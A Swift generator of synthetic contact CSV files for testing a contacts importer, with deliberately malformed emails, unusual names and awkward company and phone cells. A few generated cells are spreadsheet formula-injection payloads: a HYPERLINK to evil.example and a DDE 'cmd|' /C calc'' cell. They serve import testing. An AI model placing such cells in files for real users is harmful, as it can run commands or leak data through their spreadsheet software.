import Foundation

/// A deterministic contacts CSV for demos, benchmarks and import tests: mostly good rows, some nasty ones.
///
/// Columns `Email,First Name,Last Name,Company Name,Phone`, LF line ends, written as a user's
/// file would be (formula-like cells are not neutralized). About 1% of rows have no email,
/// 1% an invalid one and 0.5% repeat an earlier row's email (in another case or with spaces);
/// the rest have unique emails `first.last.N@domain`, some upper-cased or with spaces around.
/// Names carry accents, emoji and apostrophes; companies commas, quotes and line breaks.
///
/// Every row comes from its own SplitMix64 stream (seed and row number), so a row can be made
/// again on its own: a duplicate regenerates the earlier row's email, and `expectation()`
/// replays the rows' choices without writing or remembering anything.
public struct DemoContactsCSV: Sendable {
    /// What an import of the file must end with.
    public struct Expectation: Sendable, Hashable {
        /// Distinct valid emails: the contacts an empty workspace holds after the import.
        public var validUniqueEmails: Int
        /// Rows whose email cell is empty or blank.
        public var missingEmail: Int
        /// Rows whose email fails `ContactEmail.isValid`.
        public var invalidEmail: Int
        /// Rows whose valid email (once normalized) an earlier row already has.
        public var duplicates: Int

        public init(validUniqueEmails: Int, missingEmail: Int, invalidEmail: Int, duplicates: Int) {
            self.validUniqueEmails = validUniqueEmails
            self.missingEmail = missingEmail
            self.invalidEmail = invalidEmail
            self.duplicates = duplicates
        }
    }

    public static let header = ["Email", "First Name", "Last Name", "Company Name", "Phone"]

    /// Data rows, not counting the header.
    public let rows: Int
    public let seed: UInt64

    public init(rows: Int, seed: UInt64) {
        precondition(rows >= 0, "a CSV cannot have a negative number of rows")
        self.rows = rows
        self.seed = seed
    }

    /// Writes the header and rows to `path`, replacing any file there.
    public func write(to path: String) throws {
        let writer = try CSVWriter(path: path)
        try write(to: writer)
        try writer.close()
    }

    /// Writes the header and rows to an open file (standard output, say), leaving it open.
    public func write(to fileHandle: FileHandle) throws {
        let writer = CSVWriter(fileDescriptor: fileHandle.fileDescriptor)
        try write(to: writer)
        try writer.flush()
    }

    /// The outcome an import of the file must have, counted by replaying each row's choices.
    public func expectation() -> Expectation {
        var expectation = Expectation(validUniqueEmails: 0, missingEmail: 0, invalidEmail: 0, duplicates: 0)
        for index in 0..<rows {
            switch kind(ofRow: index) {
            case .valid: expectation.validUniqueEmails += 1
            case .missingEmail: expectation.missingEmail += 1
            case .invalidEmail: expectation.invalidEmail += 1
            case .duplicate: expectation.duplicates += 1
            }
        }
        return expectation
    }

    private func write(to writer: CSVWriter) throws {
        try writer.write(Self.header)
        for index in 0..<rows { try writer.write(fields(ofRow: index)) }
    }

    /// The cells of data row `index` (0 for the row after the header).
    private func fields(ofRow index: Int) -> [String] {
        let row = RowStart(index: index, rowSeed: rowSeed(index))
        let email: String
        switch kind(ofRow: index) {
        case .valid:
            email = Self.styled(row.email, roll: row.emailStyle)
        case .missingEmail:
            email = row.emailStyle < 50 ? "" : "   "
        case .invalidEmail:
            email = Self.invalidEmail(row, roll: row.emailStyle)
        case .duplicate(let original):
            let earlier = RowStart(index: original, rowSeed: rowSeed(original))
            email = Self.styled(earlier.email, roll: (row.emailStyle + 37) % 100)
        }
        var random = row.random
        let first = Self.firstName(row.first.name, roll: random.next() % 1000)
        let last = Self.lastName(row.last.name, roll: random.next() % 1000)
        let company = Self.company(&random, lastName: row.last.name)
        let phone = Self.phone(&random)
        return [email, first, last, company, phone]
    }

    private enum Kind {
        case valid
        case missingEmail
        case invalidEmail
        case duplicate(of: Int)
    }

    /// The row's outcome; a duplicate that finds no earlier valid row to copy is valid itself.
    private func kind(ofRow index: Int) -> Kind {
        let row = RowStart(index: index, rowSeed: rowSeed(index))
        switch row.kindRoll {
        case ..<10: return .missingEmail
        case ..<20: return .invalidEmail
        case ..<25:
            guard index > 0 else { return .valid }
            var random = SplitMix64(seed: row.rowSeed ^ 0xD1B5_4A32_D192_ED03)
            for _ in 0..<8 {
                let original = Int(random.next() % UInt64(index))
                if RowStart(index: original, rowSeed: rowSeed(original)).kindRoll >= 25 {
                    return .duplicate(of: original)
                }
            }
            return .valid
        default: return .valid
        }
    }

    private func rowSeed(_ index: Int) -> UInt64 {
        var mixer = SplitMix64(seed: seed ^ (UInt64(index) &* 0xD6E8_FEB8_6659_FD93))
        return mixer.next()
    }

    /// The choices every row makes first, in a fixed order, so any row's email can be made again alone.
    private struct RowStart {
        let rowSeed: UInt64
        let kindRoll: UInt64
        let first: (name: String, local: String)
        let last: (name: String, local: String)
        let email: String
        let emailStyle: UInt64
        /// The row's stream after these choices, for the rest of its cells.
        let random: SplitMix64

        init(index: Int, rowSeed: UInt64) {
            self.rowSeed = rowSeed
            var random = SplitMix64(seed: rowSeed)
            kindRoll = random.next() % 1000
            first = DemoContactsCSV.firstNames[Int(random.next() % UInt64(DemoContactsCSV.firstNames.count))]
            last = DemoContactsCSV.lastNames[Int(random.next() % UInt64(DemoContactsCSV.lastNames.count))]
            let domain = DemoContactsCSV.domains[Int(random.next() % UInt64(DemoContactsCSV.domains.count))]
            email = "\(first.local).\(last.local).\(index)@\(domain)"
            emailStyle = random.next() % 100
            self.random = random
        }
    }

    /// A valid email as people type it: mostly as is, sometimes upper-cased, capitalized or padded.
    private static func styled(_ email: String, roll: UInt64) -> String {
        switch roll {
        case ..<5: email.uppercased()
        case ..<10: "  \(email) "
        case ..<13: email.prefix(1).uppercased() + email.dropFirst()
        default: email
        }
    }

    private static func invalidEmail(_ row: RowStart, roll: UInt64) -> String {
        let local = "\(row.first.local).\(row.last.local)"
        switch roll % 8 {
        case 0: return "not-an-email"
        case 1: return "a@b"
        case 2: return "\(local)@"
        case 3: return "@example.com"
        case 4: return "\(row.first.name) \(row.last.name)@example.com"
        case 5: return "\(local)@@example.com"
        case 6: return "\(local)@example..com"
        default: return "\(local)@example.com."
        }
    }

    private static func firstName(_ name: String, roll: UInt64) -> String {
        switch roll {
        case ..<10: "\(name) 🌟"
        case ..<15: "👩‍💻 \(name)"
        case ..<20: " \(name) "
        case ..<23: "@\(name.lowercased())"
        case ..<25: "=HYPERLINK(\"http://evil.example/?x=\(name)\",\"\(name)\")"
        case ..<30: ""
        default: name
        }
    }

    private static func lastName(_ name: String, roll: UInt64) -> String {
        switch roll {
        case ..<5: "\(name)\nJr."
        case ..<8: "-\(name)"
        case ..<40: name.uppercased()
        default: name
        }
    }

    private static func company(_ random: inout SplitMix64, lastName: String) -> String {
        let name = companyWords.0[Int(random.next() % UInt64(companyWords.0.count))]
        let kind = companyWords.1[Int(random.next() % UInt64(companyWords.1.count))]
        switch random.next() % 1000 {
        case ..<80: return "\(name), \(kind) Inc."
        case ..<100: return "\(lastName), Jones & \"Co\""
        case ..<105: return "\(name)\r\n\(kind)"
        case ..<110: return "\(name)\n\"\(kind)\", Ltd"
        case ..<115: return "=SUM(A1:A9)"
        case ..<118: return "@SUM(1+1)*cmd|' /C calc'!A0"
        case ..<250: return ""
        default: return "\(name) \(kind)"
        }
    }

    private static func phone(_ random: inout SplitMix64) -> String {
        let digits = String(random.next() % 10_000)
        let line = String(repeating: "0", count: 4 - digits.count) + digits
        let exchange = 100 + Int(random.next() % 900)
        switch random.next() % 1000 {
        case ..<600: return "+1 555-\(exchange)-\(line)"
        case ..<750: return "(555) \(exchange)-\(line)"
        case ..<850: return "+44 20 7946 \(line)"
        case ..<860: return "=1+\(exchange)"
        case ..<870: return "-\(line)"
        case ..<880: return "\t555 \(line)"
        default: return ""
        }
    }

    private static let firstNames: [(name: String, local: String)] = [
        ("James", "james"), ("Mary", "mary"), ("José", "jose"), ("Zoë", "zoe"), ("Søren", "soren"),
        ("Ngozi", "ngozi"), ("Chen", "chen"), ("Aisha", "aisha"), ("Mateo", "mateo"), ("Yuki", "yuki"),
        ("Priya", "priya"), ("Omar", "omar"), ("François", "francois"), ("Björn", "bjorn"), ("Siobhán", "siobhan"),
        ("Dmitri", "dmitri"), ("Léa", "lea"), ("Jürgen", "jurgen"), ("Małgorzata", "malgorzata"),
        ("D'Arcy", "darcy"), ("Mary-Jane", "mary-jane"), ("Åsa", "asa"), ("Renée", "renee"), ("Anaïs", "anais"),
    ]

    private static let lastNames: [(name: String, local: String)] = [
        ("Smith", "smith"), ("O'Brien", "obrien"), ("Müller", "muller"), ("Nguyễn", "nguyen"), ("García", "garcia"),
        ("Kowalski", "kowalski"), ("van der Berg", "vanderberg"), ("D'Angelo", "dangelo"), ("Øster", "oster"),
        ("Dubois", "dubois"), ("Okafor", "okafor"), ("Tanaka", "tanaka"), ("Rossi", "rossi"), ("Silva", "silva"),
        ("MacDonald", "macdonald"), ("Lefèvre", "lefevre"), ("Ó Súilleabháin", "osuilleabhain"), ("Żółć", "zolc"),
    ]

    private static let domains = ["example.com", "example.org", "example.net", "mail.example.co.uk", "corp.example"]

    private static let companyWords = (
        ["Acme", "Globex", "Initech", "Umbrella", "Hooli", "Stark", "Wonka", "Tyrell", "Vandelay", "Pied Piper"],
        ["Labs", "Industries", "Systems", "Holdings", "Partners", "Group", "Foods", "Logistics"]
    )
}

/// SplitMix64 (Steele, Lea and Flood): a tiny seedable generator, so demo data never depends on the system RNG.
struct SplitMix64: RandomNumberGenerator {
    private var state: UInt64

    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}
